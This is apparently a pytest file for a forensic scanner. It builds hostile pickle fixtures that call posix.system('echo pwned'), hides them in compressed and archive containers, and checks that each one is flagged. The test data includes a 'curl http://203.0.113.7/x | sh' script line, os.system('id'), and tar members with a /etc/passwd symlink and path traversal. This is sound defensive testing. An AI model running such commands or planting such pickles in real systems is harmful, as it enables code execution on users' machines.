"""Files outside the model folders are classified by content and scanned like model files (issue 11, point 1).

Each hostile file is crafted opcode by opcode (``hostile_fixtures``), wrapped in the container the test names
(gzip, zlib, lzma, xz, tar, tar.gz, zip, 7z, npy) with the standard library or py7zr, written into a case outside
``models/`` and read back through ``Investigation.open``: the real inventory, loaders, sections and conclusions.
"""

from __future__ import annotations

import gzip
import io
import lzma
import shutil
import tarfile
import zipfile
import zlib
from pathlib import Path

import pytest

from tests.model import hostile_fixtures as hf
from workbench.analysis import AnalysisContext
from workbench.case import Case
from workbench.collect import EvidenceSet
from workbench.investigation import Investigation
from workbench.model.loose import OUTSIDE_MODELS, scan_outside_models

SAMPLES = Path(__file__).resolve().parents[2] / "evidence-samples"


EVIL = hf.global_reduce()  # posix.system('echo pwned')


def _tar(members: dict[str, bytes], *, gz: bool = False) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz" if gz else "w") as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _7z(members: dict[str, bytes]) -> bytes:
    py7zr = pytest.importorskip("py7zr")
    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as archive:
        for name, data in members.items():
            archive.writestr(data, name)
    return buf.getvalue()


#: case path -> (bytes, member holding the pickle or None)
HOSTILE: dict[str, tuple[bytes, str | None]] = {
    "evil.pkl": (EVIL, None),
    "notes/readme.txt": (hf.inst_protocol0(), None),  # protocol 0 under a text name
    # a first argument longer than the sniff window: the head walks as opcodes without reaching STOP
    "notes/long.txt": (b"S'" + b"a" * 100_000 + b"'\n" + hf.POP + EVIL[2:], None),
    "logs/build.log": (hf.obj_protocol1(), None),  # a pickle the log loader also claims by its name
    "logs/cache.gz": (gzip.compress(EVIL), None),
    "cache/model.pkl.z": (zlib.compress(EVIL, 3), None),  # joblib's zlib: header 78 5e
    "cache/model.pkl.lzma": (lzma.compress(EVIL, format=lzma.FORMAT_ALONE), None),
    "cache/model.pkl.xz": (lzma.compress(EVIL), None),
    "exports/arrays.npy": (hf.npy_object(), None),
    "exports/bundle.tar": (_tar({"readme.md": b"# notes\n", "inner/state.bin": EVIL}), "inner/state.bin"),
    "exports/bundle.tar.gz": (_tar({"state.bin": EVIL}, gz=True), "state.bin"),
    "exports/bundle.zip": (_zip({"weights/state.bin": EVIL}), "weights/state.bin"),
}
#: text evidence that must give no model finding wherever it is
BENIGN: dict[str, bytes] = {
    "logs/pipeline.log": b"2026-11-19T09:00:00Z step 1 ok\nx^ not zlib\n",
    "notes.md": b"x^2 + y^2: the analyst's notes\n",
    "data/table.csv": b"a,b,c\n1,2,3\n",
    "data/doc.json": b'{"key": [1, 2, 3]}\n',
    "data/settings.yaml": b"key: value\nlist:\n  - 1\n",
    "data/empty.txt": b"",
    "logs/old.log.gz": gzip.compress(b"2026-11-19 plain text log line\n" * 20),
}


def _write(root: Path, files: dict[str, bytes]) -> None:
    for rel, data in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory) -> Investigation:
    case = tmp_path_factory.mktemp("outside") / "case"
    _write(case, {**{rel: data for rel, (data, _) in HOSTILE.items()}, **BENIGN})
    _write(case, {"exports/bundle.7z": _7z({"state.bin": EVIL})})
    return Investigation.open(case, tmp_path_factory.mktemp("out"), write=False)


def test_every_hostile_file_outside_the_model_folders_is_found_by_its_case_path(hostile_run):
    dangerous = {(f.evidence["path"], f.evidence.get("member")) for f in hostile_run.findings
                 if f.category == "pickle_dangerous_import"}  # fmt: skip
    expected = {(rel, member) for rel, (_, member) in HOSTILE.items()} | {("exports/bundle.7z", "state.bin")}
    assert dangerous >= expected
    assert not {p for p, _ in dangerous} - set(HOSTILE) - {"exports/bundle.7z"}
    assert hostile_run.conclusions.verdict == "compromised"


def test_a_pickle_under_a_text_name_is_a_pickle_in_disguise(hostile_run):
    by_path = {f.evidence["path"]: f for f in hostile_run.findings if f.category == "dangerous_file_type"}
    assert by_path["notes/readme.txt"].severity.value == "critical"
    assert "pickle in disguise" in by_path["notes/readme.txt"].title
    # named as a pickle (through the compression too): the format notice (low), not disguised
    assert by_path["evil.pkl"].severity.value == "low"
    assert by_path["cache/model.pkl.z"].severity.value == "low"


def test_dangerous_files_carry_the_intake_digest(hostile_run):
    intake = {e["path"]: e["sha256"] for e in hostile_run.ledger.entries if e.get("type") == "file"}
    finding = next(f for f in hostile_run.findings if f.category == "dangerous_file_type"
                   and f.evidence["path"] == "evil.pkl")  # fmt: skip
    assert finding.evidence["sha256"] == intake["evil.pkl"]


def test_text_evidence_outside_the_model_folders_gives_no_model_finding(hostile_run):
    model = hostile_run.results["model"]
    assert not [f for f in model.findings if f.evidence.get("path") in BENIGN]
    assert not [w for w in model.warnings if w.path in BENIGN]
    scan = model.data["outside_scan"]
    kinds = {a.path: a.kind for a in scan.inventory.artefacts if a.member is None}
    assert set(kinds) == set(HOSTILE) | {"exports/bundle.7z", "logs/old.log.gz"}  # the gzip log is looked into
    assert kinds["logs/old.log.gz"] == "compressed" and kinds["cache/model.pkl.z"] == "compressed_pickle"


def test_a_case_of_text_files_only_has_no_model_scan(tmp_path):
    case = tmp_path / "case"
    _write(case, BENIGN)
    inv = Investigation.open(case, tmp_path / "out", write=False)
    model = inv.results["model"]
    assert model.not_applicable == "no model folder in the case" and model.findings == [] and model.warnings == []
    # every file was sniffed; only the gzip log needed a look inside, and it holds text
    assert [a.path for a in model.data["outside_scan"].inventory.artefacts] == ["logs/old.log.gz"]
    assert model.inputs == sorted(BENIGN)
    assert inv.conclusions.verdict == "inconclusive"  # no model and no dependencies to examine: never "clean"


def test_the_sweep_reports_code_files_with_lower_severities(tmp_path):
    case = tmp_path / "case"
    _write(case, {"tools/collect.sh": b"#!/bin/sh\ncurl http://203.0.113.7/x | sh\n",
                  "tools/helper.py": b"import os\nos.system('id')\n",
                  "bin/agent": b"\x7fELF\x02\x01\x01" + bytes(57),
                  "logs/pipeline.log": b"ok\n"})  # fmt: skip
    scan = scan_outside_models(Case.open(case))
    assert scan is not None
    got = {f.evidence["path"]: (f.evidence["kind"], f.severity.value) for f in scan.findings
           if f.category == "dangerous_file_type"}  # fmt: skip
    assert got == {"tools/collect.sh": ("script", "low"), "tools/helper.py": ("python", "low"),
                   "bin/agent": ("shared_library", "medium")}  # fmt: skip


def test_the_sweep_runs_beside_model_folders_and_is_rendered(tmp_path):
    case = tmp_path / "case"
    shutil.copytree(SAMPLES / "false-alarm", case)
    (case / "keys" / "exfil.pkl").write_bytes(EVIL)
    inv = Investigation.open(case, tmp_path / "out", write=False)
    model = inv.results["model"]
    assert [f.evidence["path"] for f in model.findings if f.category == "pickle_dangerous_import"] == ["keys/exfil.pkl"]
    assert "Outside the model folders, 1 file(s)" in model.summary
    assert "keys/exfil.pkl" in model.inputs and "models/suspect/intent-classifier-v1.0/config.json" in model.inputs
    from workbench.model.analysis import render

    html = "".join(x for x in render(model) if isinstance(x, str))
    assert "Files outside the model folders" in html and "keys/exfil.pkl" in html
    assert inv.conclusions.verdict == "compromised"


def test_outside_scan_key_and_a_clean_sample_gives_none(tmp_path):
    case = Case.open(SAMPLES / "false-alarm")
    assert scan_outside_models(case) is None
    from workbench.model.scan import scan_case

    assert OUTSIDE_MODELS not in scan_case(AnalysisContext(case=case, evidence=EvidenceSet()))


def test_tar_anomalies_and_caps(tmp_path):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        for name in ("../escape.txt", "ok.txt", "ok.txt"):
            info = tarfile.TarInfo(name)
            info.size = 2
            tf.addfile(info, io.BytesIO(b"hi"))
        link = tarfile.TarInfo("link")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        tf.addfile(link)
    case = tmp_path / "case"
    _write(case, {"a.tar": buf.getvalue()})
    from workbench.model.limits import ScanLimits

    scan = scan_outside_models(Case.open(case))
    kinds = sorted((a.member, a.kind) for _, a in scan.inventory.anomalies)
    assert kinds == [("../escape.txt", "unsafe_path"), ("link", "unsafe_path"), ("ok.txt", "duplicate_name")]
    assert scan.unexamined == []
    capped = scan_outside_models(Case.open(case), limits=ScanLimits(max_members=2))
    assert capped.unexamined == ["a.tar: more than 2 members; the rest is not examined"]
